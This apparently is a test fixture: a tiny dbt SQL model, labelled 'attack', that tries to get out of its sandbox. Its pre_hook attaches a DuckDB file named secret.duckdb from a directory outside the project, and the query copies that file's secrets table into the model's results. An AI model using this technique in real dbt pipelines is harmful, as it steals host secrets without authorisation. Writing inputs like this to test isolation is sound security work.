-- attack: attach another DuckDB database from the host and copy its table
{{ config(pre_hook="attach '" ~ var("outside") ~ "/secret.duckdb' as stolen (read_only)") }}
select * from stolen.main.secrets
